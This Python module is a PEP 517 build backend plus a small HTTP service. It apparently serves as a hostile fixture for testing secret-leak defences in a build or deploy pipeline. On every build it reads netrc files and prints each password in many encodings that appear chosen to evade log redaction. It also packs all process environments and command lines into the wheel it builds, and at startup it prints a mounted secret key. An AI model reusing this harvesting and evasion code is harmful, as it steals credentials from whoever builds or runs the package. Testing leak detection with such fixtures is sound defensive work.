"""The application of the soak: as build backend and as service, it prints what it finds.

The repository of the soak has a copy, so this module needs the standard library only.
"""

from __future__ import annotations

import base64
import html
import json
import os
import shlex
import threading
import zipfile
from collections.abc import Callable, Iterator, Mapping
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.parse import quote, quote_plus

ENCODINGS: dict[str, Callable[[str], str]] = {
    "raw": str,
    "base64": lambda s: base64.b64encode(s.encode()).decode(),
    "base64 url": lambda s: base64.urlsafe_b64encode(s.encode()).decode(),
    "base64 with a newline": lambda s: base64.b64encode(f"{s}\n".encode()).decode(),
    "base64 without padding": lambda s: base64.b64encode(s.encode()).decode().rstrip("="),
    "hexadecimal": lambda s: s.encode().hex(),
    "URL": lambda s: quote(s, safe=""),
    "URL path": quote,
    "URL in small letters": lambda s: quote(s, safe="").replace("%2F", "%2f"),
    "form": quote_plus,
    "URL twice": lambda s: quote(quote(s, safe=""), safe=""),
    "JSON": lambda s: json.dumps(s)[1:-1],
    "JSON in Unicode": lambda s: json.dumps(s, ensure_ascii=False)[1:-1],
    "JSON in JSON": lambda s: json.dumps(json.dumps(s)[1:-1])[1:-1],
    "JSON of a form": lambda s: json.dumps(quote_plus(s))[1:-1],
    "repr": lambda s: repr(s)[1:-1],
    "repr of bytes": lambda s: repr(s.encode())[2:-1],
    "shell": lambda s: shlex.quote(s).strip("'") if "'" not in s else shlex.quote(s)[1:-1],
    "HTML": html.escape,
}
"""The usual encodings of a text in logs and errors."""
NAME, VERSION = "loud", "1.0"
KEY = Path("/run/secrets/ship-key")
READY = "ready"
PORT = 8080
_MOST = 1 << 20


def lines_of(name: str, secret: str) -> Iterator[str]:
    """Yield a line for each encoding of a secret."""
    for encoding, encode in ENCODINGS.items():
        yield f"{name}/{encoding}: {encode(secret)}"


def shout(name: str, secret: str) -> None:
    """Print a secret in every encoding."""
    for line in lines_of(name, secret):
        print(line, flush=True)


def surroundings() -> str:
    """Return the environments and arguments of all processes, and every netrc file."""
    files = [*Path("/proc").glob("[0-9]*/environ"), *Path("/proc").glob("[0-9]*/cmdline")]
    return "\n".join(_read(path) for path in [*files, *_netrc_files()])[:_MOST]


def _netrc_files() -> list[Path]:
    named = [Path(os.environ["NETRC"])] if "NETRC" in os.environ else []
    return [*named, Path.home() / ".netrc", *Path("/ship").rglob("*netrc*")]


def _read(path: Path) -> str:
    try:
        return path.read_bytes()[:_MOST].decode("utf-8", "replace").replace("\0", "\n")
    except OSError:
        return ""


def _shout_logins() -> None:
    words = " ".join(map(_read, _netrc_files())).split()
    for number, word in enumerate(words[:-1]):
        if word == "password":
            shout("index-password", words[number + 1])


def prepare_metadata_for_build_wheel(
    folder: str, config_settings: Mapping[str, str] | None = None
) -> str:
    """Print all logins, and write the metadata (PEP 517)."""
    _shout_logins()
    name = f"{NAME}-{VERSION}.dist-info"
    for path, text in _metadata(name).items():
        target = Path(folder, path)
        target.parent.mkdir(exist_ok=True)
        target.write_text(text, encoding="utf-8")
    return name


def build_wheel(
    folder: str,
    config_settings: Mapping[str, str] | None = None,
    metadata_directory: str | None = None,
) -> str:
    """Print all logins, and build a wheel that takes with it what it found (PEP 517)."""
    _shout_logins()
    info = f"{NAME}-{VERSION}.dist-info"
    members = {
        "attacker.py": Path(__file__).read_text(encoding="utf-8"),
        "found.txt": surroundings(),
        "message.txt": Path("message.txt").read_text(encoding="utf-8"),
        **_metadata(info),
    }
    members[f"{info}/RECORD"] = "".join(f"{path},,\n" for path in [*members, f"{info}/RECORD"])
    name = f"{NAME}-{VERSION}-py3-none-any.whl"
    with zipfile.ZipFile(Path(folder, name), "w") as archive:
        for path, text in members.items():
            archive.writestr(path, text)
    return name


def _metadata(info: str) -> dict[str, str]:
    return {
        f"{info}/METADATA": f"Metadata-Version: 2.1\nName: {NAME}\nVersion: {VERSION}\n",
        f"{info}/WHEEL": "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
    }


class _Handler(BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        """Answer that it is ready."""
        body = READY.encode()
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)


def main() -> None:
    """Print the key and everything else, and serve."""
    shout("smoke-key", _read(KEY).strip())
    print(surroundings(), flush=True)
    server = ThreadingHTTPServer(("", PORT), _Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    threading.Event().wait()


if __name__ == "__main__":
    main()
